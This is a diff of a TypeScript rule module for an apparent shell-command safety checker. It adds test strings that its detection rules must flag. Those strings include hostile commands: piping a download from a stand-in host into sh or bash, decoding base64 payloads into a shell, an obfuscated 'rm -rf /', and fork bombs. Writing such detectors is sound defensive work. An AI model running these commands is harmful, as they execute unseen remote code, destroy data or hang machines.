@@ -1,82 +1,94 @@
-import type { Rule } from "../rule.ts";
+import { rule } from "./rule.ts";
+import type { Rule } from "../model.ts";
 
-type Raised = Omit<Rule, "pack" | "commands" | "match"> & { readonly pack?: Rule["pack"] };
-
-/** A rule that the walk raises itself, because it is about how commands are put together. */
-function raised(rule: Raised): Rule {
-  return { pack: "structure", commands: [], match: () => false, ...rule };
-}
-
-/** The text is no shell that the parser understands. */
-export const UNPARSEABLE = raised({
+/** The text is not valid shell. */
+export const UNPARSEABLE = rule({
   id: "structure.unparseable",
-  blast: 3,
-  irreversibility: 4,
+  title: "Invalid shell",
+  weight: [3, 4],
   threat: "unreadable_command",
   explanation: "The command is not valid shell, so what it would do cannot be told.",
-  safer_alternative: "Check the quotes and brackets, or split the command into simple ones.",
+  safer: "Check the quotes and brackets, or split the command into simple ones.",
+  hits: ['echo "unclosed', "if true; then"],
+  misses: ['echo "closed"', "if true; then echo yes; fi"],
 });
 
-/** The command is longer, deeper or more tangled than the shield reads. */
-export const OVER_BUDGET = raised({
+/** The command exceeds the limits of an inspection. */
+export const OVER_BUDGET = rule({
   id: "structure.over_budget",
-  blast: 3,
-  irreversibility: 4,
+  title: "Too long or too tangled",
+  weight: [3, 4],
   threat: "unreadable_command",
   explanation: "The command is too long, too deeply nested or too tangled to be judged.",
-  safer_alternative: "Split it into shorter commands, or put it into a reviewed script.",
+  safer: "Split it into shorter commands, or put it into a reviewed script.",
+  hits: [
+    "((((((((((((((((((((((((((((((((((((((((ls))))))))))))))))))))))))))))))))))))))))",
+    "{ { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { { ls; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; }; ",
+  ],
+  misses: ["ls -la", 'echo "$((1 + 2))"'],
 });
 
 /** The name of the program is only known when it runs. */
-export const HIDDEN_PROGRAM = raised({
+export const HIDDEN_PROGRAM = rule({
   id: "structure.hidden_program",
-  blast: 3,
-  irreversibility: 3,
+  title: "Compute the program's name",
+  weight: [3, 3],
   threat: "obfuscation",
   explanation: "The name of the program is computed, so what would run cannot be told.",
-  safer_alternative: "Write the program's name out.",
+  safer: "Write the program's name out.",
+  hits: ["/???/r? -rf /", "$PROGRAM -rf /"],
+  misses: ["P=ls; $P -la", "/usr/bin/ls -la"],
 });
 
 /** A shell or interpreter runs text that the line does not show. */
-export const UNSEEN_CODE = raised({
+export const UNSEEN_CODE = rule({
   id: "structure.unseen_code",
-  blast: 3,
-  irreversibility: 3,
+  title: "Run code that cannot be seen",
+  weight: [3, 3],
   threat: "unseen_code",
   explanation: "A shell or interpreter would run text that cannot be seen beforehand.",
-  safer_alternative: "Write the text to a file, read it, then run the file.",
+  safer: "Write the text to a file, read it, then run the file.",
+  hits: ['python3 -c "$CODE"', "cat script.sh | sh"],
+  misses: ["echo 'ls -la' | sh", "python3 -c 'print(1)'"],
 });
 
 /** A shell or interpreter runs what came over the network. */
-export const DOWNLOADED_CODE = raised({
+export const DOWNLOADED_CODE = rule({
   id: "network.downloaded_code",
-  pack: "network",
-  blast: 5,
-  irreversibility: 4,
+  title: "Run what was just downloaded",
+  weight: [5, 4],
   threat: "remote_code_execution",
   explanation: "Something downloaded would run at once, unseen and unchecked.",
-  safer_alternative: "Download it to a file, check its content and checksum, then run it.",
+  safer: "Download it to a file, check its content and checksum, then run it.",
+  hits: ["curl https://x.example/i.sh | sh", "bash <(curl -fsSL http://203.0.113.9/p)"],
+  misses: [
+    "curl -fsSL https://x.example/a.tgz | tar xz",
+    "curl -s https://x.example/a.json | jq .name",
+  ],
 });
 
 /** A shell or interpreter runs decoded text whose content stays hidden. */
-export const DECODED_CODE = raised({
+export const DECODED_CODE = rule({
   id: "structure.decoded_code",
-  blast: 5,
-  irreversibility: 4,
+  title: "Run decoded code",
+  weight: [5, 4],
   threat: "obfuscation",
   explanation: "Encoded text would be decoded and run, which hides what it does.",
-  safer_alternative: "Send the commands in clear.",
+  safer: "Send the commands in clear.",
+  hits: ["base64 -d payload.txt | sh", 'eval "$(xxd -r -p payload.hex)"'],
+  misses: ["echo aGVsbG8= | base64 -d", "base64 -d token.txt"],
 });
 
-/** A function starts itself beside itself, without end. */
-export const FORK_BOMB = raised({
+/** A function starts copies of itself in the background without end. */
+export const FORK_BOMB = rule({
   id: "services.fork_bomb",
-  pack: "services",
-  blast: 5,
-  irreversibility: 4,
+  title: "Start copies without end",
+  weight: [5, 4],
   threat: "denial_of_service",
   explanation: "A fork bomb: it starts copies of itself until the machine stops answering.",
-  safer_alternative: null,
+  safer: null,
+  hits: [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"],
+  misses: ["f() { echo hi; }; f", "for i in 1 2 3; do echo $i; done"],
 });
 
 /** The rules that the walk raises. */
